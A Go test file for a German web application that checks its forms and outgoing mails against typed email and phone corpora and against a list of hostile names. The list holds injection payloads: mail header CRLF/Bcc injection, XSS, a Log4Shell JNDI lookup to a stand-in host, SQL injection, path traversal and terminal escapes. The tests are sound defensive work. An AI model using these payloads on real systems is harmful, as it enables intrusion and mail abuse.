package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"feierabend"
	"feierabend/internal/storetest"
)

// typedLine is one line of a corpus of internal/address.
type typedLine struct {
	typed string
	right bool
}

// typedLines reads a corpus (T-09).
func typedLines(t *testing.T, file string) (out []typedLine) {
	t.Helper()
	b, err := os.ReadFile("../address/testdata/" + file)
	must(t, err)
	for line := range strings.Lines(string(b)) {
		line = strings.TrimRight(line, "\n")
		typed, want, ok := strings.Cut(line, "\t")
		if !ok || strings.HasPrefix(line, "# ") {
			continue
		}
		s, err := strconv.Unquote(`"` + strings.ReplaceAll(typed, `"`, `\"`) + `"`)
		must(t, err)
		out = append(out, typedLine{s, want != "-"})
	}
	if len(out) < 80 {
		t.Fatalf("%s: %d lines", file, len(out))
	}
	return out
}

// rowsOf counts what a form can leave behind.
func (w *world) rowsOf() string {
	w.t.Helper()
	text := `SELECT `
	for i, table := range []string{"registration", "sign_in_request", "sign_in_link", "invitation", "address_change", "link_challenge", "person", "tenant", "membership", "audit", "counter", "river_job"} {
		if i > 0 {
			text += ` || ' ' || `
		}
		text += fmt.Sprintf(`(SELECT '%s ' || count(*) FROM %[1]s)`, table)
	}
	return storetest.Query(w.t, w.store, text)[0][0]
}

// TestTypedCorpora (T-09): every mail address and phone number of the corpora through
// every form that asks for one. What is right is taken, what is not is said at its field;
// nothing answers 5xx, nothing stands in a log, and what is refused leaves no row.
func TestTypedCorpora(t *testing.T) {
	emails, phones := typedLines(t, "emails.tsv"), typedLines(t, "phones.tsv")
	for _, c := range []struct {
		path, field string
		member      bool
		lines       []typedLine
		form        func(typed string) url.Values
	}{
		{"/registrieren", "email", false, emails, func(s string) url.Values { return firmForm(s) }},
		{"/anmelden", "email", false, emails, func(s string) url.Values { return url.Values{"email": {s}} }},
		{"/team/einladen", "email", true, emails, func(s string) url.Values { return url.Values{"email": {s}, "rolle": {"staff"}} }},
		{"/konto/adresse", "email", true, emails, func(s string) url.Values { return url.Values{"email": {s}} }},
		{"/registrieren", "telefon", false, phones, func(s string) url.Values { return firmForm("wiebke@rotkehlchen.example", "telefon", s) }},
		{"/nummern/neu", "nummer", true, phones, func(s string) url.Values { return url.Values{"nummer": {s}} }},
	} {
		t.Run(strings.Trim(c.path, "/")+" "+c.field, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			for i, line := range c.lines {
				w.clock.Advance(9 * time.Hour) // below every limit: three mails a day to an address
				b := w.browser()
				if c.member {
					b = w.signedIn(w.b) // whose own address and number stand in no corpus
				}
				b.addr = fmt.Sprintf("192.0.2.%d:4711", i)
				form := c.form(line.typed)
				if c.path == "/nummern/neu" {
					form.Set("person", string(w.b.User.ID))
				}
				before := w.rowsOf()
				res := b.do("POST", c.path, form)
				want := http.StatusUnprocessableEntity
				if line.right {
					want = http.StatusSeeOther
				}
				if res.StatusCode != want {
					t.Errorf("%q: %d, want %d", line.typed, res.StatusCode, want)
				}
				after := w.rowsOf()
				if line.right == (before == after) {
					t.Errorf("%q: rows before\n%s\nafter\n%s", line.typed, before, after)
				}
				if where := res.Header.Get("Location"); strings.Contains(where, "%") || strings.Contains(where, "@") {
					t.Errorf("%q: leads to %s", line.typed, where)
				}
				if body := text(t, res); !line.right && !strings.Contains(body, `id="`+c.field+`-fehler"`) {
					t.Errorf("%q: nothing is said at the field", line.typed)
				}
			}
			w.unlogged(c.lines)
		})
	}
}

// unlogged searches the log for what was typed.
func (w *world) unlogged(lines []typedLine) {
	w.t.Helper()
	logs := w.logs.String()
	for _, l := range lines {
		if s := strings.TrimSpace(l.typed); len(s) > 5 && strings.Contains(logs, s) {
			w.t.Errorf("%q stands in the log", s)
		}
	}
}

// hostileWords break headers, lines, terminals, markup and templates where they are let.
var hostileWords = []string{
	"Bau\r\nBcc: x@boese.example", "Bau\nBcc: x@boese.example", "Bau\rX-Spam: no", "Bau\r\n\r\n<b>x</b>", "Bau%0d%0aBcc: x@boese.example", "Bau\u2028Bcc: x@boese.example", "Bau\u0085Bcc: x",
	"Bau\x00Bau", "\x1b[2JBau", "\x1b]0;Bau\x07", "Bau\u202egnp.exe", "Bau\u2066geh\u2069", "\u200fBau", "Bau\u200bBau", "Bau\xff\xfeBau", "\ufeffBau",
	"=?utf-8?q?Bcc:_x=40boese.example?=", "Bau\" <x@boese.example>", "Bau, x@boese.example", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.Code}}", "${jndi:ldap://boese.example}", "%s%n%x",
	"level=ERROR msg=\"gefälscht\"", "Bau\nlevel=ERROR msg=gefälscht", "klicken boese.example", "http://boese.example/", "' OR 1=1 --", "../../etc/passwd", "Bau\u0301\u0301\u0301\u0301",
}

// TestHostileNames: names of firms and people in every form that takes one, and then in
// the mails that are sent in their name: no header, line, link or log entry of their own.
func TestHostileNames(t *testing.T) {
	w := newWorld(t)
	taken := 0
	for i, evil := range hostileWords {
		w.clock.Advance(25 * time.Hour)
		stranger := w.browser()
		stranger.addr = fmt.Sprintf("192.0.2.%d:4711", i)
		for _, field := range []string{"betrieb", "strasse", "ort", "vorname", "nachname", "anderes-gewerk"} {
			form := firmForm("wiebke@rotkehlchen.example", field, evil)
			if field == "anderes-gewerk" {
				form.Set("gewerk", feierabend.OtherTrade)
			}
			if res := stranger.do("POST", "/registrieren", form); res.StatusCode != http.StatusUnprocessableEntity && res.StatusCode != http.StatusSeeOther {
				t.Errorf("%s = %q: %d", field, evil, res.StatusCode)
			}
		}
		me := w.signedIn(w.a)
		name := me.do("POST", "/konto/name", url.Values{"name": {evil}})
		if name.StatusCode == http.StatusSeeOther {
			taken++
		} else if name.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("name %q: %d", evil, name.StatusCode)
		}
		if u, err := w.store.User(t.Context(), w.a.User.ID); err != nil || strings.ContainsAny(u.Name, "\r\n\x00\x1b\x07\u2028\u0085\u202e\u2066\u200f\u200b\ufeff") {
			t.Errorf("stored as %q (%v)", u.Name, err)
		}
		firm := me.do("POST", "/stammdaten/briefkopf", url.Values{"name": {evil}})
		if firm.StatusCode >= 500 {
			t.Errorf("letterhead %q: %d", evil, firm.StatusCode)
		}
		token := w.invited(me, fmt.Sprintf("neu%d@firma.example", i), feierabend.RoleStaff)
		w.workMails()
		w.harmless(evil, token)
	}
	if taken == 0 || taken == len(hostileWords) {
		t.Errorf("%d of %d names were taken", taken, len(hostileWords))
	}
	for _, raw := range []string{"\x1b", "\u202e", "\x07", "\r", "\nlevel=ERROR", "\nBcc", "boese"} {
		if strings.Contains(w.logs.String(), raw) {
			t.Errorf("%q stands in the log", raw)
		}
	}
}

// harmless looks at the last mail.
func (w *world) harmless(evil, token string) {
	w.t.Helper()
	m := w.mails.last(w.t)
	if strings.ContainsAny(m.Subject+m.To, "\r\n\x00\x1b\u202e\u2028") || strings.Contains(m.To, ",") {
		w.t.Errorf("%q: to %q, subject %q", evil, m.To, m.Subject)
	}
	for line := range strings.Lines(m.Text) {
		if strings.HasPrefix(line, "Bcc:") || strings.HasPrefix(line, "X-Spam") {
			w.t.Errorf("%q begins a line of its own", evil)
		}
	}
	if strings.Contains(m.HTML, "<script") || strings.Contains(m.HTML, "<img") || strings.Contains(m.HTML, "<b>x") || strings.Count(m.HTML, "<a ") != 1 || !strings.Contains(m.HTML, token) {
		w.t.Errorf("%q: HTML\n%s", evil, m.HTML)
	}
}
